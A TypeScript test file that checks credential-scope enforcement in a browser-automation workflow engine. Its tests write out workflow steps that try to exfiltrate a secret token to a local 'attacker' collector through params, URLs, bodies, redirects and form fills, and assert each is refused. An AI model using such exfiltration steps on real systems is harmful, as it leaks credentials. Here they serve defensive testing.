// Credential scopes at the moment of use, against real Chromium and real Postgres (DBOS): a job whose
// author controls the destination (a param, an inline step, a redirect) tries to get a Secret's value
// to a collector on 127.0.0.1. Egress allows the collector (the pool lets the robot reach it), so what
// refuses is the Secret's scope. On the code before scopes, each of these delivered the value.
import { randomBytes } from 'node:crypto';
import { parseCredentialScope } from '../../../api/v1alpha1/credential-scope.js';
import type { WorkflowSpec } from '../../../api/v1alpha1/workflow.js';
import type { CredentialGrant } from '../credscope/decide.js';
import type { CredentialDenialRecord, CredentialUseRecord } from '../credscope/enforce.js';
import { startRecordingServer, type RecordingServer } from '../credscope/testing/recording-server.js';
import type { AttemptResult } from './engine.js';
import { startEngineBed, testUid, type EngineBed } from './testing/engine-bed.js';

const TOKEN = 'tok-' + randomBytes(12).toString('hex');
let bed: EngineBed;
let attacker: RecordingServer;
let allowed: RecordingServer;
let scope: CredentialGrant;
const used: CredentialUseRecord[] = [];
const denied: CredentialDenialRecord[] = [];

beforeAll(async () => {
  attacker = await startRecordingServer();
  allowed = await startRecordingServer();
  const parsed = parseCredentialScope(
    `- urlPrefix: ${allowed.origin}/report\n  usages: [header]\n- urlPrefix: ${allowed.origin}/form\n  usages: [fill]\n- urlPrefix: ${allowed.origin}/bounce\n  usages: [header]`,
  );
  if (!parsed.ok) throw new Error(parsed.message);
  scope = { rules: parsed.value, source: 'annotation' };
  bed = await startEngineBed('credscope-test', { allow: [new URL(attacker.origin).host, new URL(allowed.origin).host] });
}, 60_000);

afterAll(async () => {
  await bed?.stop();
  await attacker?.stop();
  await allowed?.stop();
});

beforeEach(() => {
  attacker.requests.length = 0;
  allowed.requests.length = 0;
  used.length = 0;
  denied.length = 0;
});

const run = (steps: WorkflowSpec['steps'], opts: { grant?: CredentialGrant; params?: Record<string, unknown> } = {}): Promise<AttemptResult> =>
  bed.engine.runAttempt({
    runUid: testUid(),
    attempt: 1,
    workflow: {
      params: [{ name: 'target', type: 'string', default: '' }],
      credentials: [{ name: 'api', keys: ['token'] }],
      timeouts: { stepSeconds: 8 },
      steps,
    },
    params: opts.params ?? {},
    credentials: async () => ({ values: { token: TOKEN }, secret: 'report-api', grant: opts.grant ?? scope }),
    credentialAudit: { used: (u) => used.push(u), denied: (d) => denied.push(d) },
  });

function deniedAt(r: AttemptResult, stepId: string, usage: string): string {
  if (r.status !== 'failed') throw new Error(`expected a refusal, got ${r.status}`);
  expect(r.error.reason).toBe('CredentialScopeDenied');
  expect(r.error.stepId).toBe(stepId);
  expect(r.error.message).toContain(`credential api (Secret report-api) may not be used for ${usage} at 127.0.0.1:`);
  expect(JSON.stringify(r)).not.toContain(TOKEN);
  expect(denied).toEqual([expect.objectContaining({ slot: 'api', secret: 'report-api', usage, step: stepId })]);
  expect(JSON.stringify(denied)).not.toContain(TOKEN);
  return r.error.message;
}

const settle = () => new Promise((r) => setTimeout(r, 500));

describe('credential scopes', () => {
  it('refuses a header to a host the job author chose by a param (the shipped example\'s hole)', async () => {
    const r = await run(
      [{ id: 'send', action: 'http', method: 'POST', url: '{{ params.target }}', headers: { authorization: 'Bearer {{ credentials.api.token }}' }, body: '{}' }],
      { params: { target: `${attacker.origin}/collect` } },
    );
    deniedAt(r, 'send', 'header');
    expect(attacker.requests).toEqual([]);
  });

  it('refuses a value in the URL or the body of an inline step', async () => {
    deniedAt(await run([{ id: 'viaUrl', action: 'http', method: 'GET', url: `${attacker.origin}/c?t={{ credentials.api.token }}` }]), 'viaUrl', 'url');
    denied.length = 0;
    deniedAt(await run([{ id: 'viaBody', action: 'http', method: 'POST', url: `${attacker.origin}/c`, body: '{{ credentials.api.token }}' }]), 'viaBody', 'body');
    expect(attacker.requests).toEqual([]);
    expect(attacker.received(TOKEN)).toBe(false);
  });

  it('checks the usage, not only the host: the allowed host gets no body it was not granted', async () => {
    deniedAt(await run([{ id: 'viaBody', action: 'http', method: 'POST', url: `${allowed.origin}/report`, body: 'x={{ credentials.api.token }}' }]), 'viaBody', 'body');
    expect(allowed.requests).toEqual([]);
  });

  it('does not follow a redirect from an allowed host to the collector with the credential', async () => {
    const to = encodeURIComponent(`${attacker.origin}/collect`);
    const msg = deniedAt(
      await run([{ id: 'send', action: 'http', method: 'POST', url: `${allowed.origin}/bounce?to=${to}`, headers: { 'x-api-key': '{{ credentials.api.token }}' }, body: 'hello' }]),
      'send',
      'header',
    );
    expect(msg).toMatch(/^the redirect from http:\/\/127\.0\.0\.1:\d+\/bounce\?… to http:\/\/127\.0\.0\.1:\d+\/collect was not followed:/);
    expect(allowed.requests.map((q) => q.url)).toEqual([`/bounce?to=${to}`]);
    expect(attacker.requests).toEqual([]);
    expect(used).toEqual([expect.objectContaining({ usage: 'header', host: new URL(allowed.origin).host })]);
  });

  it('refuses to type the value into a page outside the scope (the page would send it home)', async () => {
    deniedAt(
      await run([
        { id: 'open', action: 'goto', url: `${attacker.origin}/form` },
        { id: 'type', action: 'fill', target: { label: 'Token' }, value: '{{ credentials.api.token }}', onError: { policy: 'continue' } },
        { id: 'wait', action: 'waitFor', seconds: 1 },
      ]),
      'type',
      'fill',
    );
    await settle();
    expect(attacker.requests.map((q) => q.url)).toEqual(['/form']);
    expect(attacker.received(TOKEN)).toBe(false);
  });

  it('without an annotation, an inline workflow may not type the value anywhere (the safe default)', async () => {
    const r = await run(
      [
        { id: 'open', action: 'goto', url: `${allowed.origin}/form` },
        { id: 'type', action: 'fill', target: { label: 'Token' }, value: '{{ credentials.api.token }}' },
      ],
      { grant: { rules: [], source: 'default' } },
    );
    const msg = deniedAt(r, 'type', 'fill');
    expect(msg).toContain('has no rpa.aether.dev/credential-scope annotation');
    await settle();
    expect(allowed.received(TOKEN)).toBe(false);
  });

  it('lets the value go where the scope allows it, and audits each use without the value', async () => {
    const r = await run([
      { id: 'open', action: 'goto', url: `${allowed.origin}/form` },
      { id: 'type', action: 'fill', target: { label: 'Token' }, value: '{{ credentials.api.token }}' },
      { id: 'send', action: 'http', method: 'POST', url: `${allowed.origin}/report`, headers: { authorization: 'Bearer {{ credentials.api.token }}' }, body: '{}' },
    ]);
    if (r.status !== 'succeeded') throw new Error(JSON.stringify(r));
    await settle();
    expect(allowed.received(TOKEN)).toBe(true);
    const report = allowed.requests.find((q) => q.url === '/report');
    expect(report?.headers.authorization).toBe(`Bearer ${TOKEN}`);
    const host = new URL(allowed.origin).host;
    expect(used).toEqual([
      { slot: 'api', secret: 'report-api', usage: 'fill', host, step: 'type', source: 'annotation' },
      { slot: 'api', secret: 'report-api', usage: 'header', host, step: 'send', source: 'annotation' },
    ]);
    expect(denied).toEqual([]);
    expect(attacker.requests).toEqual([]);
  });
});
